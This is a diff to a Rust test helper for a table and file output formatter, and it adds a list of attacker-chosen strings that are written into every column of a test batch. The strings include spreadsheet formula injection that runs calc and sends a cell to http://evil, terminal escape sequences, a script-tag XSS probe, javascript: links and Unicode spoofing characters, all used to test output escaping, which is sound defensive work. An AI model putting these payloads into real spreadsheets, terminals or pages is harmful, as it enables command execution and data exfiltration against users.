@@ -2,6 +2,7 @@
 
 use std::sync::Arc;
 
+use arrow::array::builder::{ListBuilder, StringBuilder};
 use arrow::array::{ArrayRef, Int32Array, RecordBatch, StringArray, TimestampMicrosecondArray};
 use chrono::DateTime;
 use unicode_width::UnicodeWidthStr;
@@ -75,20 +76,26 @@ pub(crate) fn text(values: &[Option<&str>]) -> ArrayRef {
     Arc::new(StringArray::from(values.to_vec()))
 }
 
-/// What `format` makes of `batches`.
-pub(crate) fn written(format: Format, layout: Layout, batches: &[RecordBatch]) -> (String, Summary) {
+/// The bytes that `format` makes of `batches`.
+pub(crate) fn bytes(format: Format, layout: Layout, batches: &[RecordBatch]) -> (Vec<u8>, Summary) {
     let mut out = Vec::new();
     let mut sink = format.writer(batches[0].schema(), layout, &mut out).unwrap();
     for batch in batches {
         sink.write_batch(batch).unwrap();
     }
     let summary = sink.finish().unwrap();
+    (out, summary)
+}
+
+/// What `format` makes of `batches`, as text.
+pub(crate) fn written(format: Format, layout: Layout, batches: &[RecordBatch]) -> (String, Summary) {
+    let (out, summary) = bytes(format, layout, batches);
     (String::from_utf8(out).unwrap(), summary)
 }
 
 /// The table of `batches` without colour.
 pub(crate) fn table(width: Option<usize>, batches: &[RecordBatch]) -> (String, Summary) {
-    written(Format::Table, Layout { width, colour: false }, batches)
+    written(Format::Table, Layout { width, ..Layout::default() }, batches)
 }
 
 /// The properties of every table.
@@ -104,4 +111,56 @@ pub(crate) fn check(width: Option<usize>, table: &str) {
 /// Everything but white space, in order: what must not change when a cell wraps.
 pub(crate) fn letters(text: &str) -> String {
     text.chars().filter(|character| !character.is_whitespace()).collect()
+}
+
+/// Texts that an intruder may choose: for terminals, spreadsheets, browsers, and readers that count bytes.
+pub(crate) fn hostile() -> Vec<String> {
+    let texts = [
+        "\x1b[2J\x1b]0;title\x07\x1b[31mred",
+        "=cmd|'/c calc'!A1",
+        "+1+cmd",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=HYPERLINK(\"http://evil/?\"&A1)",
+        "\r\n=1",
+        "<script>alert(1)</script>",
+        "![x](http://evil/p.png) [y](javascript:z) <http://evil> https://evil.example www.evil.example a@evil.example",
+        "| a | b |",
+        "back\\|slash \\",
+        "`tick` ``ticks`` ```",
+        "admin\u{202e}nimda\u{2066}\u{200b}",
+        "two\nlines\r\nand\rmore\u{2028}",
+        "NUL\0inside",
+        "\"quoted, with comma\"",
+        "\"",
+        " spaces ",
+        "\\N",
+        "NULL",
+        "",
+        "日本語 🦀",
+    ];
+    texts.into_iter().map(str::to_owned).chain([format!("={}", "A".repeat(1_000_000))]).collect()
+}
+
+/// A batch of two rows for each hostile text, in every column that an intruder can choose, numbers among them; the second
+/// row has a name of NULL.
+pub(crate) fn hostile_batch() -> RecordBatch {
+    let texts: Vec<String> = hostile().into_iter().flat_map(|text| [text.clone(), text]).collect();
+    let all: Vec<Option<&str>> = texts.iter().map(|text| Some(text.as_str())).collect();
+    let names: Vec<Option<&str>> = all.iter().enumerate().map(|(row, text)| text.filter(|_| row % 2 == 0)).collect();
+    let mut groups = ListBuilder::new(StringBuilder::new());
+    for text in &all {
+        groups.append_value([*text, None, Some("ops")]);
+    }
+    let times =
+        TimestampMicrosecondArray::from_iter_values((0..all.len()).map(|row| 1_795_293_458_239_247 + row as i64));
+    columns(vec![
+        ("event_time", Arc::new(times) as ArrayRef),
+        ("user_name", text(&all)),
+        ("verb", text(&vec![Some("get"); all.len()])),
+        ("name", text(&names)),
+        ("groups", Arc::new(groups.finish())),
+        ("change", Arc::new(Int32Array::from(vec![-5; all.len()]))),
+        ("user_agent", text(&all)),
+    ])
 }
